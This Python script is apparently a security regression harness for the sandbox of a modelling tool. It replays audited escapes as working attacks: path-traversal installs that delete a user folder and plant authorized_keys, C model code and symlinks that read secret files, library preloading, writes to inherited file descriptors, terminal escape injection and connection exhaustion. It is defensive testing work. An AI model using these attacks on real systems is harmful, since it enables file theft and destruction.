#!/usr/bin/env python3
"""The ways out of the sandbox, and the smaller holes, that an audit of commit 62c065f found (A to D, E1 to E10), each as an attack on a given program: `worked`,
`refused`, or `not tried` with the reason. Old programs can be given as well: all of A to D worked there. The tests that keep them closed are named in docs/security.md.

All places are temporary; nothing uses a network. E4 needs root, since the user database must have the temporary home.

With --control the user trusts the models. The attacks of OF_FOREIGN_CODE must work then: what is refused otherwise is the attack, and not a mistake in it.

Usage: ways_out.py --saltus PROGRAM [--only A,E4] [--control]"""
import argparse
import os
import pathlib
import shlex
import socket
import subprocess
import sys
import tempfile
import time
import zipfile

import strangers_place

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent / "studio"))
import sandbox  # noqa: E402
from client import Fault, Studio  # noqa: E402

PATIENCE = strangers_place.PATIENCE


class NotTried(Exception):
    pass


def model(name, body, head=""):
    text = "#include <fcntl.h>\n#include <stdio.h>\n#include <unistd.h>\n" + head + "\nstatic double stranger(double t) { " + body + " }"
    return (f"model {name} {strangers_place.external_function('f', 'stranger', text)} parameter Real p = 1; Real x(start = 1, fixed = true); Real y = f(time);"
            f" equation der(x) = -p*x + y; annotation(experiment(StopTime = 0.1)); end {name};\n")


def first_byte(path):
    return f'static char c = 0; int fd = c ? -1 : open("{path}", O_RDONLY); if (fd >= 0) read(fd, &c, 1); return c;'


def reached(place, name, column="y"):
    """The last value of a variable of a result; 0 where there is no result."""
    path = place.models / name if not os.path.isabs(name) else pathlib.Path(name)
    if not path.exists():
        return 0
    lines = path.read_text().splitlines()
    return float(lines[-1].split(",")[lines[0].split(",").index(column)]) if len(lines) > 1 else 0


def studio(place):
    place.own()
    return Studio(str(place.saltus), place.models, state=place.home / "state", env=place.environment(MODELICAPATH=""), **place.identity())


def a_studio_thread(place):
    """A signal handler on another thread of the studio's worker, which Landlock does not restrict."""
    head = sandbox.ON_OTHER_THREADS.replace("SECRET", str(place.secret)).replace("MARKER", str(place.marker))
    place.write("Threads.mo", sandbox.model("Threads", sandbox.SEND, head))
    with studio(place) as server:
        window = server.window()
        run, _ = window.run(**{"class": "Threads"})
        _, numbers = window.ask("run/columns", run=run, signals=["y"])
        return place.marker.exists() or any(numbers.get("y", []))


def b_install_version(place):
    """The version of a package is a path: a folder of the user is removed, and files are planted in its place."""
    precious = place.write(place.home / "precious" / "thesis" / "main.tex", "years of work\n")
    with zipfile.ZipFile(place.models / "evil.zip", "w") as archive:
        archive.writestr("A/package.mo", 'package A annotation(version="1"); end A;\n')
        archive.writestr("B/package.mo", 'package A annotation(version="1/../../../../../precious"); end A;\n')
        archive.writestr("B/authorized_keys", "mine\n")
    place.own()
    place.run("install", "evil.zip")
    return not precious.exists() or (place.home / "precious" / "authorized_keys").exists()


def c_packed_file(place):
    """A String names a file of the user: it is packed into the FMU."""
    place.write("F.mo", f'model F parameter String s="{place.secret}"; Real x=time; end F;\n')
    place.own()
    place.run("fmu", "F.mo", "-o", "F.fmu")
    if not (place.models / "F.fmu").exists():
        return False
    with zipfile.ZipFile(place.models / "F.fmu") as archive:
        return any(b"topsecretword" in archive.read(name) for name in archive.namelist() if name.startswith("resources/"))


def d_bare_library(place):
    """An empty element of LD_LIBRARY_PATH: a library of the current folder is loaded before the sandbox is entered."""
    source = place.write("ev.c", '#include <stdio.h>\n__attribute__((constructor)) static void early(void) { FILE* m = fopen("MARKER", "w"); if (m) fclose(m); }\ndouble ev(double t) { return t; }\n')
    subprocess.run([os.environ.get("CC", "cc"), "-shared", "-fPIC", "-o", place.models / "libevil.so", source], check=True)
    place.write("L.mo", 'model L function f input Real t; output Real y; external "C" y=ev(t) annotation(Library="evil"); end f; Real y=f(time); end L;\n')
    place.own()
    for command in (["simulate", "L.mo"], ["fmu", "L.mo", "-o", "L.fmu"]):
        place.run(*command, env={"LD_LIBRARY_PATH": ":/usr/local/lib"})
    return place.marker.exists()


def e1_links_of_a_library(place):
    """`install` follows links of a library to files of the user."""
    library = place.write("L/package.mo", 'package L annotation(version="1"); end L;\n').parent
    (library / "Resources").mkdir()
    (library / "Resources" / "s.txt").symlink_to(place.secret)
    place.own()
    place.run("install", "L")
    return any("topsecretword" in p.read_text(errors="replace") for p in place.home.rglob("libraries/**/*") if p.is_file())


def e2_open_files(place):
    """Files that the caller left open, and standard input, are used."""
    left = place.write(place.home / "seven.txt", "seven\n")
    place.write("D.mo", model("D", """static double sum = 0; static int once = 0; if (!once) { once = 1; char c;
      for (int fd = 30; fd < 64; ++fd) { if (lseek(fd, 0, SEEK_SET) >= 0 && read(fd, &c, 1) == 1 && c == 's') sum += 1; if (write(fd, "HACKED", 6) == 6) sum += 0; }
      if (read(0, &c, 1) == 1) sum += 100; } return sum;"""))
    place.own()
    with open(left, "r+") as seven:
        os.dup2(seven.fileno(), 37)
        place.run("simulate", "D.mo", "-o", "D.csv", pass_fds=(37,), input="stdin-secret")
        os.close(37)
    return reached(place, "D.csv") != 0 or left.read_text() != "seven\n"


def e3_links_in_a_home(place):
    """A link beside a model in a home folder leads to a hidden file."""
    key = place.write(place.home / ".hid" / "key", "HUSH\n")
    worked = False
    for link, target, path in (("innocent.txt", key, "innocent.txt"), ("Resources", key.parent, "Resources/key")):
        (place.home / link).symlink_to(target)
        place.write(place.home / "M.mo", model("M", first_byte(place.home / path)))
        place.own()
        place.run("simulate", "M.mo", "-o", "M.csv", cwd=place.home)
        worked = worked or reached(place, str(place.home / "M.csv")) != 0
        (place.home / link).unlink()
    return worked


def e4_other_home(place):
    """HOME is not set, or another's: a model in a home folder reads hidden files of it."""
    if os.geteuid() != 0 or subprocess.run(["unshare", "-m", "true"], capture_output=True).returncode != 0:
        raise NotTried("the user database cannot be replaced here")
    place.write(place.home / ".bashrc", "# mine\n")
    place.write(place.home / "M.mo", model("M", first_byte(place.home / ".bashrc")))
    database = place.write(place.folder / "passwd", f"root:x:0:0:root:/root:/bin/sh\nhuser:x:{place.user}:{place.user}::{place.home}:/bin/sh\n")
    place.own()
    for home in (None, "/root", "/"):
        command = shlex.join([str(place.saltus), "simulate", str(place.home / "M.mo"), "-o", str(place.home / "M.csv")])
        words = ["unshare", "-m", "sh", "-c", f"mount --bind {shlex.quote(str(database))} /etc/passwd && cd {shlex.quote(str(place.home))} && "
                                              f"exec setpriv --reuid {place.user} --regid {place.user} --clear-groups {command}"]
        environment = place.environment(HOME=home, XDG_CACHE_HOME=place.folder / "cache", XDG_CONFIG_HOME=place.home / ".config")
        done = subprocess.run(words, env=environment, capture_output=True, text=True, timeout=120 * PATIENCE)
        if "mount" in done.stderr:
            raise NotTried(done.stderr.strip())
        if reached(place, str(place.home / "M.csv")) != 0:
            return True
    return False


def e5_compiler_in_home(place):
    """~/bin/cc is the first compiler: the home folder is open to the C text of a model."""
    key = place.write(place.home / ".hid" / "key", "HUSH\n")
    wrapper = place.write(place.home / "bin" / "cc", '#!/bin/sh\nexec /usr/bin/cc "$@"\n')
    wrapper.chmod(0o755)
    place.write("B.mo", model("B", "return hushed[0];", f'asm(".data\\nhushed: .incbin \\"{key}\\"\\n.text\\n"); extern char hushed[];'))
    place.own()
    place.run("simulate", "B.mo", "-o", "B.csv", env={"PATH": f"{wrapper.parent}:/usr/bin:/bin"})
    return reached(place, "B.csv") == ord("H")


def e6_unreported(place):
    """A refused call changes the result of an analysis, and is not reported by its status."""
    place.write("S.mo", model("S", f'int fd = open("{place.secret}", O_RDONLY); return fd >= 0 ? 1 : 2;'))
    place.write("data.csv", "time,x\n0,1\n0.05,0.95\n0.1,0.9\n")
    place.own()
    for command in (["steady", "S.mo"], ["linearize", "S.mo"], ["sensitivities", "S.mo", "--by", "p"], ["fit", "S.mo", "--by", "p", "--data", "data.csv"]):
        done = place.run(*command)
        if done.returncode == 0 or "L0050" not in done.stderr:
            return True
    return False


def e7_terminal(place):
    """Control characters and marks of direction of strangers reach the terminal."""
    place.write("T/package.mo", 'package T annotation(version="1\x1b[31m"); end T;\n')
    place.write("P.mo", 'model P "\x1b]0;pwn\x07 \u202e" Real x = time; end P;\n')
    place.write("g/modelDescription.xml", '<fmiModelDescription fmiVersion="2.0" modelName="G\u202e" guid="1"></fmiModelDescription>\n')
    place.own()
    terminal = ["script", "-qec"]
    for command in (["eval", '"a" + "\x1b]0;pwn\u202e"'], ["install", "T"], ["fmu", "check", "g"], ["check", "P.mo", "--dump", "parse"], ["parse", "P.mo"], ["format", "--print", "P.mo"], ["convert", "P.mo"]):
        words = [*terminal, shlex.join([str(place.saltus), *command]), "/dev/null"]
        said = subprocess.run(words, cwd=place.models, env=place.environment(), capture_output=True, timeout=120 * PATIENCE, stdin=subprocess.DEVNULL, **place.identity()).stdout
        if b"\x1b]0;pwn" in said or b"\x1b[31m\")" in said or "\u202e".encode() in said:
            return True
    return False


def e8_forged_frames(place):
    """A run that sends invalid messages to the studio stays `running` for ever."""
    for name, (kind, text) in sandbox.FORGED.items():
        place.write(f"Forge_{name}.mo", sandbox.model("Forge_" + name, sandbox.FORGE % (text, kind)))
    with studio(place) as server:
        window = server.window()
        for name in sandbox.FORGED:
            run = window.ask("run/start", **{"class": "Forge_" + name})["run"]
            try:
                if window.wait("run/ended", lambda p: p["run"] == run, 20 * PATIENCE)["state"] != "failed":
                    return True
            except (TimeoutError, socket.timeout):
                return True
    return False


def e9_nul_in_a_name(place):
    """`file/new` with NUL in the name makes a file whose ending is not in the list."""
    with studio(place) as server:
        try:
            server.window().ask("file/new", path="planted\0b.md", text="x")
        except Fault:
            pass
    return any(place.models.rglob("planted*"))


def e10_idle_connections(place):
    """Connections without the token keep new windows out."""
    with studio(place) as server:
        idle = [socket.create_connection(("127.0.0.1", server.port), 20) for _ in range(64)]
        begin = time.monotonic()
        try:
            window = server.window()
            window.ask("run/list")
            worked = time.monotonic() - begin > 15 * PATIENCE
        except (OSError, AttributeError):
            worked = True
        for one in idle:
            one.close()
    return worked


ATTACKS = {"A": a_studio_thread, "B": b_install_version, "C": c_packed_file, "D": d_bare_library, "E1": e1_links_of_a_library, "E2": e2_open_files, "E3": e3_links_in_a_home,
           "E4": e4_other_home, "E5": e5_compiler_in_home, "E6": e6_unreported, "E7": e7_terminal, "E8": e8_forged_frames, "E9": e9_nul_in_a_name, "E10": e10_idle_connections}
OF_FOREIGN_CODE = ("A", "C", "E2", "E3", "E4", "E5", "E6")


def trust(place):
    """The list of the user names all that is in the place."""
    place.write(place.home / ".config" / "saltus" / "trusted", f"{place.home}\n")


def main():
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("--saltus", required=True)
    arguments.add_argument("--only", default="", help="names of attacks, separated by commas")
    arguments.add_argument("--control", action="store_true", help="the user trusts the models")
    options = arguments.parse_args()
    chosen = [name for name in (OF_FOREIGN_CODE if options.control else ATTACKS) if not options.only or name in options.only.split(",")]
    worked = tried = 0
    for name in chosen:
        with tempfile.TemporaryDirectory(prefix="saltus-ways-out-") as folder:
            attack = ATTACKS[name]
            place = strangers_place.Place(pathlib.Path(options.saltus).resolve(), folder, strangers_place.unprivileged())
            if options.control:
                trust(place)
            try:
                did = attack(place)
                tried += 1
                verdict = "worked" if did else "refused"
                worked += bool(did)
            except NotTried as why:
                verdict = f"not tried: {why}"
        print(f"{name:4}{verdict:9} {attack.__doc__}", flush=True)
    print(f"{worked} of {tried} attacks worked")
    return int(worked < tried if options.control else worked > 0)


if __name__ == "__main__":
    sys.exit(main())
